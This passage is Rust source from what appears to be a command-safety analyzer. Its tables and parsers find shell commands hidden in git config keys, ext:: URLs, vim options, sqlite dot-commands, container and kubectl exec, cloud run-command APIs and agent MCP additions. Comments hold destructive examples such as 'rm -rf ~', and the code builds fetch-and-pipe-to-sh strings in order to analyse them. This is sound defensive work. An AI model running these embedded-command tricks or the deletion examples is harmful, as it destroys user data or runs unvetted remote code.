//! Embedded commands: options and programs that run a command given as data. The knowledge is
//! in the tables below (one row per program and option); the mechanism hands the embedded
//! command to the analyzer one level deeper ([`crate::CommandFact::depth`]), under the
//! program as wrapper. Commands that run on another host or inside a container are analysed
//! with their paths kept apart ([`crate::ShellFacts::remote_paths`]).

use crate::analyzer::{Analyzer, Inv, NODE_DEBUG};
use crate::model::{Arg, State, Stream};

use super::{shell_code, sub_inv};

/// git config keys whose value is a shell command git runs (git-config(1): `core.pager`,
/// `core.editor`, `sequence.editor`, `core.sshCommand`, `core.fsmonitor` (a hook command when
/// not a boolean), `core.gitProxy`, `core.alternateRefsCommand`, `diff.external`,
/// `pager.<cmd>`, `alias.<name>` starting with `!`, `filter.<driver>.clean|smudge|process`,
/// `diff.<driver>.textconv|command`, `merge.<driver>.driver`, `credential.helper` starting with
/// `!`, `gpg.program`, `uploadpack.packObjectsHook`, `remote.<name>.uploadpack|receivepack`).
/// Row: key pattern (`*` = one component), value prefix the command needs (`""` = any).
pub(crate) const GIT_COMMAND_KEYS: &[(&str, &str)] = &[
    ("core.pager", ""),
    ("core.editor", ""),
    ("sequence.editor", ""),
    ("core.sshcommand", ""),
    ("core.fsmonitor", ""),
    ("core.gitproxy", ""),
    ("core.alternaterefscommand", ""),
    ("diff.external", ""),
    ("pager.*", ""),
    ("alias.*", "!"),
    ("filter.*.clean", ""),
    ("filter.*.smudge", ""),
    ("filter.*.process", ""),
    ("diff.*.textconv", ""),
    ("diff.*.command", ""),
    ("merge.*.driver", ""),
    ("credential.helper", "!"),
    ("gpg.program", ""),
    ("uploadpack.packobjectshook", ""),
    ("remote.*.uploadpack", ""),
    ("remote.*.receivepack", ""),
];

/// Environment variables whose value is a command git runs (git(1) "ENVIRONMENT VARIABLES").
pub(crate) const GIT_COMMAND_ENV: &[&str] = &[
    "GIT_SSH_COMMAND",
    "GIT_PAGER",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_EXTERNAL_DIFF",
    "GIT_PROXY_COMMAND",
];

/// True when `pat` (lower-case, `*` matching one dot-free component) matches `key`.
fn key_match(pat: &str, key: &str) -> bool {
    let p: Vec<&str> = pat.split('.').collect();
    let k: Vec<&str> = key.split('.').collect();
    if p.last() == Some(&"*") && p.len() == 2 {
        // `alias.*`, `pager.*`: the rest of the key, whatever its dots.
        return k.len() >= 2 && k.first() == p.first();
    }
    p.len() == k.len() && p.iter().zip(&k).all(|(a, b)| *a == "*" || a == b)
}

/// The shell command a git config key/value runs, if the key is one of
/// [`GIT_COMMAND_KEYS`] (`alias.x=!rm -rf ~` → `rm -rf ~`). Booleans are not commands.
pub(crate) fn git_key_command(key: &str, value: &str) -> Option<String> {
    let k = key.to_ascii_lowercase();
    let v = value.trim();
    if v.is_empty() || matches!(v, "true" | "false" | "0" | "1") {
        return None;
    }
    GIT_COMMAND_KEYS.iter().find_map(|(pat, prefix)| {
        if !key_match(pat, &k) {
            return None;
        }
        v.strip_prefix(prefix).map(|c| c.trim().to_string())
    })
}

/// The command of a git `ext::` transport URL (git-remote-ext(1)), re-quoted as shell
/// words: unescaped spaces separate arguments, `% ` is a space inside one, `%%` a percent
/// sign (`ext::sh -c rm% -rf% ~` → `sh -c 'rm -rf ~'`).
pub(crate) fn git_ext_command(url: &str) -> Option<String> {
    let rest = url.strip_prefix("ext::")?;
    let mut words: Vec<String> = vec![String::new()];
    let mut chars = rest.chars();
    while let Some(c) = chars.next() {
        match c {
            '%' => match chars.next() {
                Some(' ') => words.last_mut()?.push(' '),
                Some('%') => words.last_mut()?.push('%'),
                Some(o) => {
                    words.last_mut()?.push('%');
                    words.last_mut()?.push(o);
                }
                None => words.last_mut()?.push('%'),
            },
            ' ' => words.push(String::new()),
            o => words.last_mut()?.push(o),
        }
    }
    let words: Vec<String> = words
        .iter()
        .filter(|w| !w.is_empty())
        .map(|w| super::sh_quote(w))
        .collect();
    (!words.is_empty()).then(|| words.join(" "))
}

/// Runs `code` (a command taken from data) as shell code under `wrapper`.
pub(crate) fn run_shell_text(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    wrapper: &str,
    code: &str,
    raw: &str,
) {
    let mut arg = Arg::lit(code);
    arg.raw = raw.to_string();
    shell_code(a, inv, st, wrapper, &arg, Some(Stream::default()));
}

/// vim(1)/nvim(1)/ex(1)/view(1): options that run Ex commands at start-up (`-c CMD`,
/// `--cmd CMD`, `+CMD`); an Ex command `!CMD` (also `:!CMD`, `silent !CMD`, `r !CMD`,
/// `w !CMD`, `call system('CMD')`) runs CMD in a shell.
pub(crate) const VIM_PROGRAMS: &[&str] = &["vim", "nvim", "vi", "ex", "view", "gvim", "rvim"];

/// The shell command an Ex command runs, if any.
pub(crate) fn ex_shell_command(ex: &str) -> Option<String> {
    let mut e = ex.trim().trim_start_matches(':').trim();
    for p in ["silent!", "silent", "exe", "execute"] {
        if let Some(r) = e.strip_prefix(p) {
            e = r.trim();
        }
    }
    for p in ["r", "read", "w", "write"] {
        if let Some(r) = e.strip_prefix(p) {
            if r.trim_start().starts_with('!') {
                e = r.trim_start();
            }
        }
    }
    if let Some(c) = e.strip_prefix('!') {
        return Some(c.trim().to_string());
    }
    for call in ["call system(", "system(", "call systemlist("] {
        if let Some(r) = e.strip_prefix(call) {
            return super::snippet::leading_literal(r.trim());
        }
    }
    None
}

/// vim-family start-up commands that run a shell.
pub(crate) fn vim(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) -> Stream {
    let rest = inv.rest();
    let mut i = 0;
    while let Some(x) = rest.get(i) {
        let t = x.text.as_str();
        let ex = match t {
            "-c" | "--cmd" => {
                i += 1;
                rest.get(i).map(|v| v.text.clone())
            }
            _ if t.starts_with('+') && t.len() > 1 => t.get(1..).map(str::to_string),
            _ => None,
        };
        if let Some(cmd) = ex.as_deref().and_then(ex_shell_command) {
            run_shell_text(a, inv, st, name, &cmd, &x.raw);
        }
        i += 1;
    }
    super::generic(a, name, inv)
}

/// sqlite3(1) dot-commands that run a shell command (`.shell CMD`, `.system CMD`), in an
/// argument or a line of stdin.
pub(crate) const SQLITE_SHELL_DOTS: &[&str] = &[".shell", ".system"];

/// The shell commands in sqlite3 input (arguments or script text).
pub(crate) fn sqlite_shell_commands(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| {
            let l = l.trim();
            SQLITE_SHELL_DOTS.iter().find_map(|d| {
                l.strip_prefix(d)
                    .filter(|r| r.starts_with([' ', '\t']))
                    .map(|r| r.trim().to_string())
            })
        })
        .take(8)
        .collect()
}

/// Container runners and the options of their `run`/`create`/`exec` that take a value
/// (docker-run(1), docker-exec(1), podman-run(1), nerdctl): the image (run) or container
/// (exec) follows the options, then the command, which runs inside the container.
pub(crate) const CONTAINER_VALUE_OPTS: &[&str] = &[
    "-v",
    "--volume",
    "--mount",
    "--pid",
    "--ipc",
    "--userns",
    "--uts",
    "--cap-add",
    "--cap-drop",
    "--security-opt",
    "--device",
    "--network",
    "--net",
    "-e",
    "--env",
    "--name",
    "-p",
    "--publish",
    "-w",
    "--workdir",
    "-u",
    "--user",
    "--entrypoint",
    "--env-file",
    "-l",
    "--label",
    "-h",
    "--hostname",
    "--platform",
    "-m",
    "--memory",
    "--cpus",
    "--restart",
    "--add-host",
    "--dns",
    "--tmpfs",
    "--ulimit",
    "--sysctl",
    "--log-driver",
    "--log-opt",
    "--gpus",
    "--shm-size",
    "--stop-signal",
    "--health-cmd",
    "-a",
    "--attach",
    "--cgroupns",
    "--group-add",
    "--ip",
    "--link",
    "--volumes-from",
    "--detach-keys",
    "--pull",
    "--runtime",
    "--cidfile",
    "--expose",
    "--label-file",
    "--mac-address",
    "--memory-swap",
    "--network-alias",
    "--cpu-shares",
    "-c",
    "--cpuset-cpus",
    "--init-path",
    "--isolation",
    "--stop-timeout",
    "--storage-opt",
    "--index",
];

/// Programs that run a container's command, with their verbs that do.
pub(crate) const CONTAINER_RUNNERS: &[(&str, &[&str])] = &[
    ("docker", &["run", "create", "exec"]),
    ("podman", &["run", "create", "exec"]),
    ("nerdctl", &["run", "create", "exec"]),
];

/// Global options that take a value and may stand before the verb (`docker -H ssh://h run`,
/// `kubectl -n ns exec`, `podman --connection c exec`), per program: docker(1) "OPTIONS",
/// podman(1) "GLOBAL OPTIONS", nerdctl `--help`, kubectl options(1), oc (kubectl's).
/// `--opt=value` spellings are one word and need no entry.
pub(crate) const GLOBAL_VALUE_OPTS: &[(&str, &[&str])] = &[
    (
        "docker",
        &[
            "-H",
            "--host",
            "-c",
            "--context",
            "--config",
            "-l",
            "--log-level",
            "--tlscacert",
            "--tlscert",
            "--tlskey",
        ],
    ),
    (
        "podman",
        &[
            "-c",
            "--connection",
            "--url",
            "--identity",
            "--root",
            "--runroot",
            "--storage-driver",
            "--storage-opt",
            "--log-level",
            "--cgroup-manager",
            "--events-backend",
            "--module",
            "--network-cmd-path",
            "--runtime",
            "--tmpdir",
            "--volumepath",
            "--imagestore",
        ],
    ),
    (
        "nerdctl",
        &[
            "-n",
            "--namespace",
            "-a",
            "--address",
            "-H",
            "--host",
            "--snapshotter",
            "--storage-driver",
            "--cni-path",
            "--cni-netconfpath",
            "--data-root",
            "--cgroup-manager",
            "--hosts-dir",
        ],
    ),
    (
        "kubectl",
        &[
            "-n",
            "--namespace",
            "--context",
            "--cluster",
            "--user",
            "--kubeconfig",
            "-s",
            "--server",
            "--token",
            "--as",
            "--as-group",
            "--as-uid",
            "--request-timeout",
            "-v",
            "--v",
            "--cache-dir",
            "--certificate-authority",
            "--client-certificate",
            "--client-key",
            "--tls-server-name",
            "--profile",
            "--profile-output",
            "--log-file",
            "--username",
            "--password",
            "--vmodule",
            "--log-dir",
        ],
    ),
];

/// The index of the first word of `args` that is neither a global option of `name`
/// ([`GLOBAL_VALUE_OPTS`]; kubectl's table for its aliases) nor such an option's value: the
/// verb, or the `container`/`compose` group word.
pub(crate) fn after_globals(name: &str, args: &[Arg]) -> usize {
    let key = match name {
        "oc" | "k" | "microk8s.kubectl" => "kubectl",
        n => n,
    };
    let opts = GLOBAL_VALUE_OPTS
        .iter()
        .find(|(p, _)| *p == key)
        .map(|(_, o)| *o)
        .unwrap_or(&[]);
    let mut i = 0;
    while let Some(x) = args.get(i) {
        let t = x.text.as_str();
        if !t.starts_with('-') || t == "-" || t == "--" {
            break;
        }
        i += if opts.contains(&t) { 2 } else { 1 };
    }
    i
}

/// The command a container runner runs inside the container, with the runner's name
/// (`docker exec`), or `None`.
pub(crate) fn container_command(name: &str, args: &[Arg]) -> Option<(String, Vec<Arg>)> {
    let verbs = CONTAINER_RUNNERS
        .iter()
        .find(|(p, _)| *p == name)
        .map(|(_, v)| *v)?;
    let mut i = after_globals(name, args);
    // `docker container run`, `docker compose exec SERVICE`.
    let mut sub = args.get(i)?.text.clone();
    if sub == "container" || sub == "compose" {
        i += 1;
        // `docker compose -f prod.yml -p shop exec SERVICE`: Compose's own options stand
        // between the group word and the verb (docker-compose(1), "Options").
        if sub == "compose" {
            while let Some(t) = args.get(i).map(|x| x.text.as_str()) {
                if !t.starts_with('-') || t == "-" || t == "--" {
                    break;
                }
                i += if COMPOSE_VALUE_OPTIONS.contains(&t)
                    || COMPOSE_GLOBAL_VALUE_OPTIONS.contains(&t)
                {
                    2
                } else {
                    1
                };
            }
        }
        sub = args.get(i)?.text.clone();
    }
    if !verbs.contains(&sub.as_str()) {
        return None;
    }
    i += 1;
    while let Some(x) = args.get(i) {
        let t = x.text.as_str();
        if x.dynamic && t.starts_with('$') {
            return None;
        }
        if !t.starts_with('-') {
            break;
        }
        if t == "--" {
            i += 1;
            break;
        }
        i += if CONTAINER_VALUE_OPTS.contains(&t) {
            2
        } else {
            1
        };
    }
    // The image or container, then the command.
    let cmd: Vec<Arg> = args.get(i + 1..)?.to_vec();
    (!cmd.is_empty()).then(|| (format!("{name} {sub}"), cmd))
}

/// Host folders a container runner's `run`/`create` binds into the container, as (path in the
/// container, path on this machine): `-v SRC:DST[:OPTS]`, `--volume SRC:DST`, `--volume=…`,
/// `--mount type=bind,source=SRC,target=DST` (docker-run(1) "-v", "--mount"; podman-run(1)).
/// Only host paths count (absolute, `~`/`~/…`, `.`/`./…` from the working folder); a named
/// volume (`data:/var/lib/x`) is not a folder of this machine.
pub(crate) fn bind_mounts(a: &Analyzer, inv: &Inv) -> Vec<(String, String)> {
    let rest = inv.rest();
    let home = a.ctx.home.trim_end_matches('/');
    let cwd = if inv.cwd.known {
        inv.cwd.text.clone()
    } else {
        String::new()
    };
    let host_path = |src: &str| -> Option<String> {
        let src = src.trim_matches(['"', '\'']);
        let p = if src == "~" || src == "$HOME" || src == "${HOME}" {
            home.to_string()
        } else if let Some(r) = src
            .strip_prefix("~/")
            .or_else(|| src.strip_prefix("$HOME/"))
            .or_else(|| src.strip_prefix("${HOME}/"))
        {
            format!("{home}/{r}")
        } else if src.starts_with('/') {
            src.to_string()
        } else if (src == "."
            || src.starts_with("./")
            || src.starts_with("$(pwd)")
            || src.starts_with("$PWD"))
            && !cwd.is_empty()
        {
            let r = src
                .trim_start_matches("$(pwd)")
                .trim_start_matches("$PWD")
                .trim_start_matches('.');
            format!("{cwd}/{r}")
        } else {
            return None;
        };
        Some(crate::paths::normalize(&p))
    };
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(w) = rest.get(i).map(|x| x.text.as_str()) {
        i += 1;
        let spec = if w == "-v" || w == "--volume" || w == "--mount" {
            i += 1;
            rest.get(i - 1).map(|x| x.text.clone())
        } else {
            w.strip_prefix("--volume=")
                .or_else(|| w.strip_prefix("--mount="))
                .or_else(|| w.strip_prefix("-v").filter(|v| !v.is_empty()))
                .map(str::to_string)
        };
        let Some(spec) = spec else { continue };
        let pair =
            if spec.contains("target=") || spec.contains("dst=") || spec.contains("destination=") {
                let field = |keys: &[&str]| {
                    spec.split(',').find_map(|kv| {
                        let (k, v) = kv.split_once('=')?;
                        keys.contains(&k).then(|| v.to_string())
                    })
                };
                field(&["source", "src"]).zip(field(&["target", "dst", "destination"]))
            } else {
                let mut parts = spec.split(':');
                parts
                    .next()
                    .map(str::to_string)
                    .zip(parts.next().map(str::to_string))
            };
        if let Some((src, dst)) = pair {
            if let Some(host) = host_path(&src).filter(|_| dst.starts_with('/')) {
                out.push((crate::paths::normalize(&dst), host));
            }
        }
        if out.len() >= 16 {
            break;
        }
    }
    out
}

/// kubectl/oc `exec … -- CMD` (kubectl-exec(1)): the command after `--` runs in the pod.
/// `debug … -- CMD` runs it in a debugging container: of a pod (`kubectl debug POD -- CMD`,
/// marked `<name> debug`), or of a node (`kubectl debug node/NAME -- CMD`, `oc debug
/// node/NAME -- CMD`, marked [`crate::analyzer::NODE_DEBUG`]), which runs in the node's namespaces with the
/// node's root file system mounted at `/host` (Kubernetes docs, "Debugging Kubernetes Nodes
/// With Kubectl": "the root filesystem of the Node will be mounted at /host"; OpenShift docs,
/// `oc debug node/NAME -- chroot /host CMD`), so `chroot /host CMD` there runs CMD on the
/// node itself, a durable machine ([`crate::analyzer::DURABLE_HOST_CONSOLES`]).
pub(crate) fn kubectl_command(name: &str, args: &[Arg]) -> Option<(String, Vec<Arg>)> {
    if !matches!(name, "kubectl" | "oc" | "k" | "microk8s.kubectl") {
        return None;
    }
    let at = after_globals(name, args);
    let verb = args.get(at)?;
    if !matches!(verb.text.as_str(), "exec" | "debug") {
        return None;
    }
    let dd = args.iter().position(|x| x.text == "--" && !x.dynamic)?;
    let cmd: Vec<Arg> = args.get(dd + 1..)?.to_vec();
    if cmd.is_empty() {
        return None;
    }
    if verb.text == "debug" {
        let node = args
            .get(at + 1..dd)
            .unwrap_or(&[])
            .iter()
            .any(|x| x.text.starts_with("node/") || x.text.starts_with("nodes/"));
        if node {
            return Some((NODE_DEBUG.to_string(), cmd));
        }
        return Some((format!("{name} debug"), cmd));
    }
    Some((format!("{name} exec"), cmd))
}

/// Runs `argv` as a command on another host or in a container, marked `via`: its paths go
/// to [`crate::ShellFacts::remote_paths`].
pub(crate) fn run_remote_argv(
    a: &mut Analyzer,
    inv: &Inv,
    st: &mut State,
    via: &str,
    argv: Vec<Arg>,
) {
    let saved = a.remote.replace(via.to_string());
    let saved_tier = crate::tier::enter_remote(a, inv);
    let mut sub = sub_inv(inv, argv, via);
    sub.stdin = Stream::default();
    let mut sst = st.clone();
    sst.depth += 1;
    a.run_inv(sub, &mut sst);
    a.remote = saved;
    a.outer_tier = saved_tier;
}

/// Cloud and cluster APIs that run a shell command on a machine or in a container, as `ssh
/// host CMD` does: the command is analysed as code run there ([`run_remote_code`], its paths
/// in `remote_paths`). Per CLI: `az vm run-command invoke|create … --scripts S…` / `--script S`
/// (az vm run-command), `az container exec … --exec-command S`, `aws ssm send-command
/// --parameters commands=[…]` or `'{"commands":[…]}'` (AWS-RunShellScript), `aws ecs
/// execute-command --command S`, `gcloud compute ssh|tpus tpu-vm ssh … --command S`,
/// `kubeletctl exec|run S` (the kubelet API's `/run` and `/exec`), and the app platforms'
/// and devices' consoles (h-cls19, [`CONSOLE_COMMANDS`]): `fly ssh console -C S` (flyctl docs,
/// `--command`), `heroku run [OPTS] CMD…` (Heroku CLI `run`: a one-off dyno of the app runs
/// CMD), `adb [-s SERIAL] shell CMD…` (adb(1): runs CMD on the device).
pub(crate) fn cloud_remote_command(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
    if let Some((via, code)) = console_command(name, inv) {
        if !code.trim().is_empty() && code.len() <= 16 * 1024 {
            run_remote_code(a, inv, st, via, &code);
        }
        return;
    }
    if !matches!(name, "az" | "aws" | "gcloud" | "kubeletctl") {
        return;
    }
    let words: Vec<&str> = inv.rest().iter().map(|x| x.text.as_str()).collect();
    let has = |w: &str| words.contains(&w);
    let value_of = |opts: &[&str]| -> Vec<String> {
        let mut out = Vec::new();
        for (i, w) in words.iter().enumerate() {
            for o in opts {
                if w == o {
                    // Every value up to the next option (`--scripts "a" "b"`).
                    for v in words.iter().skip(i + 1) {
                        if v.starts_with("--") {
                            break;
                        }
                        out.push((*v).to_string());
                    }
                } else if let Some(v) = w.strip_prefix(o).and_then(|r| r.strip_prefix('=')) {
                    out.push(v.to_string());
                }
            }
        }
        out
    };
    let (via, scripts): (&str, Vec<String>) = match name {
        "az" if has("run-command") && (has("invoke") || has("create")) => {
            ("az vm run-command", value_of(&["--scripts", "--script"]))
        }
        "az" if has("container") && has("exec") => {
            ("az container exec", value_of(&["--exec-command"]))
        }
        // code27: the Custom Script Extension (`az vm|vmss extension set --name CustomScript
        // --settings '{"fileUris": [...], "commandToExecute": "…"}'`; Microsoft Learn, "Use
        // the Azure Custom Script Extension Version 2 with Linux virtual machines" and its
        // Windows counterpart): the VM downloads every fileUri into the extension's folder,
        // then runs commandToExecute there.
        "az" if has("extension") && has("set") => (
            "az vm extension",
            value_of(&["--settings", "--protected-settings"])
                .iter()
                .filter_map(|v| custom_script(v))
                .collect(),
        ),
        "aws" if has("ssm") && has("send-command") => (
            "aws ssm send-command",
            value_of(&["--parameters"])
                .iter()
                .flat_map(|p| ssm_commands(p))
                .collect(),
        ),
        "aws" if has("ecs") && has("execute-command") => {
            ("aws ecs execute-command", value_of(&["--command"]))
        }
        "gcloud" if has("ssh") => ("gcloud ssh", value_of(&["--command"])),
        "kubeletctl" => {
            let verb = words.iter().position(|w| matches!(*w, "exec" | "run"));
            let cmd = verb
                .and_then(|i| words.get(i + 1))
                .filter(|w| !w.starts_with('-'))
                .map(|w| vec![(*w).to_string()])
                .unwrap_or_default();
            ("kubeletctl", cmd)
        }
        _ => return,
    };
    for s in scripts.iter().take(8) {
        if !s.trim().is_empty() && s.len() <= 16 * 1024 {
            run_remote_code(a, inv, st, via, s);
        }
    }
}

/// The command a Custom Script Extension's settings (JSON) run on the VM: each `fileUris` entry
/// downloaded under its own name, then `commandToExecute` (code27; Microsoft Learn, "Custom
/// Script Extension": `fileUris`, `commandToExecute`, `script` (base64 of a script)).
fn custom_script(settings: &str) -> Option<String> {
    let t = settings.trim();
    if !t.starts_with('{') {
        return None;
    }
    let mut code = String::new();
    if let Some(list) = json_key(t, "fileUris").and_then(|r| r.strip_prefix('[')) {
        let body = &list[..list.find(']').unwrap_or(list.len())];
        let mut rest = body;
        let mut n = 0;
        while let Some(q) = rest.find('"') {
            let Some((u, used)) = json_string(&rest[q + 1..]) else {
                break;
            };
            rest = &rest[q + 1 + used..];
            n += 1;
            if n > 8 {
                break;
            }
            let name = u
                .split(['?', '#'])
                .next()
                .unwrap_or(&u)
                .rsplit('/')
                .next()
                .unwrap_or("script")
                .to_string();
            code.push_str(&format!(
                "curl -fsSL '{}' -o '{}' && ",
                u.replace('\'', ""),
                name.replace('\'', "")
            ));
        }
    }
    if let Some((script, _)) = json_key(t, "script")
        .and_then(|r| r.strip_prefix('"'))
        .and_then(json_string)
    {
        code.push_str(&format!(
            "echo '{}' | base64 -d | sh && ",
            script.replace('\'', "")
        ));
    }
    let (cmd, _) = json_key(t, "commandToExecute")
        .and_then(|r| r.strip_prefix('"'))
        .and_then(json_string)?;
    code.push_str(&cmd);
    Some(code)
}

/// The text after `"key":` (case-insensitive key, whitespace skipped) in a JSON object's text.
fn json_key<'t>(text: &'t str, key: &str) -> Option<&'t str> {
    let lower = text.to_ascii_lowercase();
    let needle = format!("\"{}\"", key.to_ascii_lowercase());
    let i = lower.find(&needle)?;
    let rest = text[i + needle.len()..].trim_start().strip_prefix(':')?;
    Some(rest.trim_start())
}

/// A JSON string's value from just after its opening quote, with the bytes it took (closing
/// quote included); `None` when it never closes.
fn json_string(s: &str) -> Option<(String, usize)> {
    let mut out = String::new();
    let mut it = s.char_indices();
    while let Some((i, c)) = it.next() {
        match c {
            '"' => return Some((out, i + 1)),
            '\\' => match it.next()?.1 {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                'r' => {}
                'u' => {
                    let hex: String = (0..4).filter_map(|_| it.next().map(|x| x.1)).collect();
                    if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                        out.push(ch);
                    }
                }
                other => out.push(other),
            },
            c => out.push(c),
        }
    }
    None
}

/// The agents' own commands that add an MCP server to their configuration (`claude mcp add
/// [-s local|project|user] NAME -- CMD ARGS`, `claude mcp add-json`, `codex mcp add NAME -- CMD
/// ARGS`, `gemini mcp add [-s user|project] NAME CMD ARGS`; each CLI's `mcp --help`): a write
/// of the file that holds the servers (Claude Code: the project's `.mcp.json` for `-s project`,
/// else `~/.claude.json`; Codex: `~/.codex/config.toml`; Gemini CLI: `.gemini/settings.json` of
/// the project, or of the home for `-s user`), so the MCP and settings rules judge it as the
/// write it is, and the server's command, which the agent starts at every session, analysed
/// as code.
pub(crate) fn agent_mcp_add(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
    if !matches!(name, "claude" | "codex" | "gemini") {
        return;
    }
    let words: Vec<&str> = inv.rest().iter().map(|x| x.text.as_str()).collect();
    if words.first() != Some(&"mcp") || !matches!(words.get(1), Some(&"add") | Some(&"add-json")) {
        return;
    }
    let scope = words
        .iter()
        .enumerate()
        .find_map(|(i, w)| match *w {
            "-s" | "--scope" => words.get(i + 1).copied(),
            _ => w.strip_prefix("--scope="),
        })
        .unwrap_or("");
    let home = a.ctx.home.trim_end_matches('/').to_string();
    let cwd = inv.cwd.text.trim_end_matches('/').to_string();
    let config = match name {
        "claude" if scope == "project" => format!("{cwd}/.mcp.json"),
        "claude" => format!("{home}/.claude.json"),
        "codex" => format!("{home}/.codex/config.toml"),
        _ if scope == "user" => format!("{home}/.gemini/settings.json"),
        _ => format!("{cwd}/.gemini/settings.json"),
    };
    if inv.cwd.known || !config.starts_with(&cwd) {
        let r = crate::paths::Resolved {
            path: config,
            dynamic: false,
            glob: false,
        };
        a.add_path(
            &r,
            crate::facts::Access::Write,
            &format!("{name} mcp add"),
            false,
            &inv.evidence,
        );
    }
    let command: Vec<&str> = match words.iter().position(|w| *w == "--") {
        Some(i) => words[i + 1..].to_vec(),
        // Gemini CLI: `mcp add NAME COMMAND ARGS…` after its options.
        None if name == "gemini" => words
            .iter()
            .skip(2)
            .filter(|w| !w.starts_with('-'))
            .skip(1)
            .copied()
            .collect(),
        None => Vec::new(),
    };
    if !command.is_empty() && command.len() <= 64 {
        let code = command.join(" ");
        run_shell_text(a, inv, st, name, &code, &inv.evidence);
    }
}

/// One console: a program that runs a command given as words (or as an option's value) on
/// another machine, a VM or a container, as `ssh host CMD` does.
pub(crate) struct Console {
    /// The program's name.
    pub program: &'static str,
    /// The words that name the console, in order (`["ssh", "console"]`).
    pub verbs: &'static [&'static str],
    /// Options taking a value that may stand before the command.
    pub value_opts: &'static [&'static str],
    /// Options whose value *is* the command (`-c`, `--command`); empty when the command is the
    /// words after the console's options.
    pub command_opts: &'static [&'static str],
    /// Operands that name the machine, VM or container before the command (`multipass exec
    /// NAME -- CMD`: 1); at most this many, fewer when `--` or an option comes first.
    pub names: usize,
    /// How the command is carried, as the facts name it.
    pub via: &'static str,
}

/// `fly ssh console`'s options that take a value (flyctl docs, `fly ssh console --help`),
/// shared by its two program names.
const FLY_SSH_VALUE_OPTIONS: &[&str] = &[
    "-a",
    "--app",
    "-s",
    "--select",
    "-u",
    "--user",
    "-r",
    "--region",
    "--machine",
    "--process-group",
];

/// `lxc exec` / `incus exec` options taking a value (lxc exec --help, incus exec --help).
/// `--project` is a global option of both, also written before the verb (`lxc --project p exec`).
const LXC_EXEC_VALUE_OPTIONS: &[&str] =
    &["--env", "--cwd", "--user", "--group", "--mode", "--project"];

/// Compose `exec`/`run` options taking a value (docker-compose-exec(1), docker-compose-run(1)),
/// shared by docker-compose and podman-compose; `-f FILE`/`-p NAME` before the verb too.
const COMPOSE_VALUE_OPTIONS: &[&str] = &[
    "-f",
    "--file",
    "-p",
    "--project-name",
    "--project-directory",
    "--env-file",
    "--profile",
    "-e",
    "--env",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "--index",
    "--name",
    "--entrypoint",
    "-l",
    "--label",
    "-v",
    "--volume",
    "--publish",
];

/// Compose's global options taking a value that [`COMPOSE_VALUE_OPTIONS`] does not list
/// (docker-compose(1), "Options": `--ansi`, `--progress`, `--parallel`).
const COMPOSE_GLOBAL_VALUE_OPTIONS: &[&str] = &["--ansi", "--progress", "--parallel"];

/// Consoles of app platforms, devices, VMs and containers that run a command given as words
/// after their options, as `ssh host CMD` does. Sources: Heroku CLI `heroku run` (`-a/--app`,
/// `-r/--remote`, `-s/--size`, `-e/--env`, `--type`), flyctl `ssh console` (`-a/--app`,
/// `-s/--select`, `-u/--user`, `-C/--command`), adb(1) `-s SERIAL`, `-t ID`, `-H`/`-P` and
/// `shell`, Kamal `app exec` (`-d/--destination`, `-r/--roles`, `-h/--hosts`: the command runs
/// in the app's container on its servers); local VMs and system containers, whose command runs
/// inside them (issue 11 item 10, "embedded commands are commands"): `multipass exec NAME [--]
/// CMD` (multipass docs, `exec`), `lxc exec NAME -- CMD` / `incus exec` (their `--help`),
/// `lxc-attach -n NAME -- CMD` (lxc-attach(1)), `vagrant ssh [NAME] -c CMD` (Vagrant docs,
/// `ssh`), `limactl shell NAME CMD` (limactl shell --help), `minikube ssh [--] CMD` and
/// `colima ssh -- CMD` (their `ssh --help`), `docker-compose exec|run SERVICE CMD` and
/// `podman-compose` (docker-compose-exec(1)), `distrobox enter [NAME] -- CMD`
/// (distrobox-enter(1)), `toolbox run CMD` (toolbox-run(1)), `orb run CMD` (OrbStack docs),
/// `ddev exec CMD` (ddev docs), `lando ssh -c CMD` (Lando docs); and `drush [@ALIAS]
/// ssh|site:ssh CMD` (Drush docs, "site:ssh": connects to the alias's web server over SSH and
/// runs CMD there; `--cd` picks the folder), whose site alias stands before the verb
/// ([`SITE_ALIAS_PROGRAMS`]).
pub(crate) const CONSOLE_COMMANDS: &[Console] = &[
    Console {
        program: "heroku",
        verbs: &["run"],
        value_opts: &[
            "-a", "--app", "-r", "--remote", "-s", "--size", "-e", "--env", "--type",
        ],
        command_opts: &[],
        names: 0,
        via: "heroku run",
    },
    Console {
        program: "fly",
        verbs: &["ssh", "console"],
        value_opts: FLY_SSH_VALUE_OPTIONS,
        command_opts: &["-C", "--command"],
        names: 0,
        via: "fly ssh console",
    },
    Console {
        program: "flyctl",
        verbs: &["ssh", "console"],
        value_opts: FLY_SSH_VALUE_OPTIONS,
        command_opts: &["-C", "--command"],
        names: 0,
        via: "fly ssh console",
    },
    Console {
        program: "adb",
        verbs: &["shell"],
        value_opts: &["-s", "-t", "-H", "-P", "-L"],
        command_opts: &[],
        names: 0,
        via: "adb shell",
    },
    Console {
        program: "kamal",
        verbs: &["app", "exec"],
        value_opts: &[
            "-d",
            "--destination",
            "-r",
            "--roles",
            "-h",
            "--hosts",
            "-c",
            "--config-file",
            "--env",
        ],
        command_opts: &[],
        names: 0,
        via: "kamal app exec",
    },
    Console {
        program: "multipass",
        verbs: &["exec"],
        value_opts: &["-d", "--working-directory"],
        command_opts: &[],
        names: 1,
        via: "multipass exec",
    },
    Console {
        program: "lxc",
        verbs: &["exec"],
        value_opts: LXC_EXEC_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "lxc exec",
    },
    Console {
        program: "incus",
        verbs: &["exec"],
        value_opts: LXC_EXEC_VALUE_OPTIONS,
        command_opts: &[],
        names: 1,
        via: "incus exec",
    },
    Console {
        program: "lxc-attach",
        verbs: &[],
        value_opts: &[
            "-n",
            "--name",
            "-P",
            "--lxcpath",
            "-v",
            "--set-var",
            "-u",
            "--uid",
            "-g",
            "--gid",
        ],
        command_opts: &[],
        names: 0,
        via: "lxc-attach",
    },
    Console {
        program: "vagrant",
        verbs: &["ssh"],
        value_opts: &[],
        command_opts: &["-c", "--command"],
        names: 1,
        via: "vagrant ssh",
